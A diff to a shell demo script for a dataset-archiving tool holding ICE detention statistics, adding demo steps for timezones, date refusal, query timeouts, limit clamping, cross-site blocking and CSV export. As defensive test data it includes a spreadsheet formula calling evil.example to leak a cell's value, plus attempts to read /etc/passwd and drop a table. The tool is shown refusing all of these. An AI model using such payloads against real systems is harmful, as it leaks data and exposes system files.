@@ -11,6 +11,7 @@ OUT="$PWD/demo/out"
 rm -rf "$OUT" && mkdir -p "$OUT"
 export GIT_AUTHOR_NAME="${GIT_AUTHOR_NAME:-atdarchive demo}" GIT_AUTHOR_EMAIL="${GIT_AUTHOR_EMAIL:-demo@localhost}"
 export GIT_COMMITTER_NAME="$GIT_AUTHOR_NAME" GIT_COMMITTER_EMAIL="$GIT_AUTHOR_EMAIL"
+export ATDARCHIVE_CONFIG_HOME="$OUT/config"   # the demo's confirmations, not yours
 A="atdarchive -C $OUT/archive"
 DS=ice-detention-stats
 BOOKINS=detention__ice_initial_book_ins_by_arresting_agency_and_month
@@ -23,7 +24,7 @@ step "Declare the dataset; facilities are identified by (Name, City, State)" \
   $A dataset add $DS --title "ICE Detention Statistics FY2025" \
   --agency "U.S. Immigration and Customs Enforcement" \
   --source-url "https://www.ice.gov/detain/detention-management" \
-  --key "$FACILITIES=Name,City,State"
+  --key "$FACILITIES=Name,City,State" --timezone America/New_York
 for f in "$DATA"/v0*.xlsx; do
   name=$(basename "$f"); day=$(echo "$name" | cut -d_ -f2)
   [ "$day" = 2025-08-01 ] && continue   # committed last below, as a backfill
@@ -33,6 +34,13 @@ done
 step "Backfill: the 2025-08-01 release, recovered later, slots in by publication date" \
   $A commit $DS "$DATA/v03_2025-08-01_FY25_detentionStats08012025.xlsx" --published 2025-08-01 \
   --archivist demo -m "recovered from a web archive"
+
+step "The same bytes written as another form of the same day are refused, naming the release" \
+  bash -c "$A commit $DS '$DATA/v05_2025-08-29_FY25_detentionStats08292025.xlsx' --published 08/29/2025 || true"
+step "An ambiguous date is refused with both readings, never guessed" \
+  bash -c "$A commit $DS '$DATA/v05_2025-08-29_FY25_detentionStats08292025.xlsx' --published 09/08/2025 || true"
+step "The dataset's zone (New York): naive times and refs are read in it" \
+  bash -c "$A dataset list && $A show $DS@2025-09-11T23:59 | head -2"
 
 # --- Fetch by URL (a local web server stands in for ice.gov) -------------------------
 PORT=$(python -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')
@@ -202,8 +210,15 @@ step "...and the same through the diffs view, with the cell each value came from
   $A sql --dataset $DS "SELECT published, old, new, source_cell FROM diffs.$BOOKINS WHERE Agency = 'Total' AND \"column\" = 'Nov'"
 step "Writing is refused; files outside the archive cannot be read" \
   bash -c "$A sql --dataset $DS \"SELECT * FROM read_text('/etc/passwd')\" 2>&1 || true; $A sql --dataset $DS 'DROP TABLE releases' 2>&1 || true"
+step "A runaway query stops at its time bound with one line (10 billion rows, --timeout 2)" \
+  bash -c "$A sql --dataset $DS --timeout 2 'SELECT sum(a.range * b.range) FROM range(100000) a, range(100000) b' || true"
 step "Every view as tables in one SQLite file (for Datasette)" \
   $A sql --dataset $DS --export "$OUT/history.sqlite"
+printf 'id,note\n1,"=HYPERLINK(""http://evil.example/""&A1)"\n2,-5\n3,plain\n' > "$OUT/notes-2025-09-12.csv"
+$A dataset add notes --title "A table with a formula-looking cell" >/dev/null
+$A commit notes "$OUT/notes-2025-09-12.csv" >/dev/null
+step "CSV written for people runs no formula: a leading ' (OWASP); --raw keeps the cell exactly" \
+  bash -c "$A export notes@latest -o '$OUT/notes.csv' && cat '$OUT/notes.csv' && $A export notes@latest -o '$OUT/notes-raw.csv' --raw && sed -n 2p '$OUT/notes-raw.csv'"
 step "Pin the snapshot a paper used" $A pin $DS@paper-draft --lock "$OUT/atdarchive.lock"
 step "Load exactly the pinned bytes (every file re-hashed)" python -c "import atdarchive; s = atdarchive.load('$DS', lock='$OUT/atdarchive.lock'); print(s.ref, s.published, len(s.table_names), 'tables')"
 step "Cite it" $A cite $DS@paper-draft --format bibtex
@@ -226,6 +241,14 @@ for v in cell["values"]:
 timing, audit = get(f"/datasets/{ds}/audit?format=json")
 top = audit["findings"][0]
 print(f"audit page: headline {top['severity']} {top['kind']} -> {top['links'].get('diff')}")
+huge = get(f"/datasets/{ds}/diff/latest~1..latest?limit=100000000&format=json")[1]["page"]
+print(f"?limit=100000000 is clamped to one page of {huge['limit']:,} (complete: {huge['complete']})")
+cross = urllib.request.Request(base + f"/datasets/{ds}/audit",
+                               headers={"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"})
+try:
+    urllib.request.urlopen(cross)
+except urllib.error.HTTPError as e:
+    print(f"a request another web site makes the browser send -> {e.code}: {e.read().decode().strip()[:90]}")
 req = urllib.request.Request(base + "/", method="POST")
 try:
     urllib.request.urlopen(req)
